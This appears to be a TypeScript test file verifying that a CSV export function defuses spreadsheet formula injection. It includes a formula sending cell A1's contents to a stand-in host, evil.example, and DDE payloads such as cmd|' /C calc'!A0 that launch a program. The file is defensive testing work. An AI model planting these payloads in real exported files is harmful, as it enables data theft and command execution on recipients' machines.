import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvCell, csvHeader, csvLines } from "../../server/services/exports.server.js";

/** The first characters a spreadsheet (Excel, LibreOffice Calc, Google Sheets) reads as the start of a formula. */
const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0"];

const HOSTILE = [
  '=HYPERLINK("https://evil.example?"&A1, "Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
];

describe("CSV cells of the open data", () => {
  it.each(HOSTILE)("makes %j inert with a leading apostrophe, and the text survives a CSV parser", (text) => {
    const cell = (parse(csvCell(text)) as string[][])[0]?.[0];
    expect(cell).toBe(`'${text}`);
    expect(FORMULA_STARTS).not.toContain(cell![0]);
  });

  it("leaves ordinary text, numbers and empty cells as they were (quoted where RFC 4180 asks)", () => {
    expect(csvCell("Contestable automated decisions")).toBe("Contestable automated decisions");
    expect(csvCell('She said "wait", then left')).toBe('"She said ""wait"", then left"');
    expect(csvCell("a, b")).toBe('"a, b"');
    expect(csvCell(-0.25)).toBe("-0.25");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvCell(["MOMENTS when", "=1+1"])).toBe("MOMENTS when | =1+1");
    expect(csvCell(["=1+1", "MOMENTS when"])).toBe("'=1+1 | MOMENTS when");
  });

  it("quotes a cell holding a semicolon or a tab, so a spreadsheet that splits on semicolons keeps it whole", () => {
    // Excel set up for Estonian or Russian reads a .csv with ";" between cells: unquoted, the middle
    // piece here would be a cell of its own starting a formula.
    expect(csvCell("Quiet nights;=cmd|' /C calc'!A0;x")).toBe(`"Quiet nights;=cmd|' /C calc'!A0;x"`);
    expect(parse(csvCell("x;=1+1;y"), { delimiter: ";" })).toEqual([["x;=1+1;y"]]);
    expect(csvCell("a\tb")).toBe('"a\tb"');
  });

  it("neutralises a formula behind leading spaces and the full-width signs", () => {
    for (const text of [" =1+1", "\u00a0+1", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20me"]) expect(csvCell(text).replace(/^"/, "")[0], text).toBe("'");
  });

  it("writes a values file whose every cell is safe to open, a hostile title inside the comment's body too", () => {
    const row = {
      timestamp: 1_700_000_000,
      datetime: "2026-12-06T10:00:00.000Z",
      valueId: "v1",
      authorId: "-abc",
      title: '=HYPERLINK("https://evil.example")',
      description: "@me: I want to be asked.",
      policies: ["+MOMENTS when I am asked", "WAYS to say no"],
      contextId: "ctx",
      cards: 1,
      support: 2,
      dissent: 0,
      score: 0.5,
      rank: 1,
    };
    const rows = parse(csvHeader("values") + csvLines("values", [row])) as string[][];
    expect(rows[0]).toEqual([
      "timestamp",
      "datetime",
      "comment-id",
      "author-id",
      "agrees",
      "disagrees",
      "moderated",
      "comment-body",
      "context-id",
      "score",
      "rank",
    ]);
    expect(rows[1]![3]).toBe("'-abc");
    expect(rows[1]![7]).toBe(`'=HYPERLINK("https://evil.example"): @me: I want to be asked. [+MOMENTS when I am asked | WAYS to say no]`);
    for (const cell of rows.flat()) expect(FORMULA_STARTS, cell).not.toContain(cell[0]);
  });
});
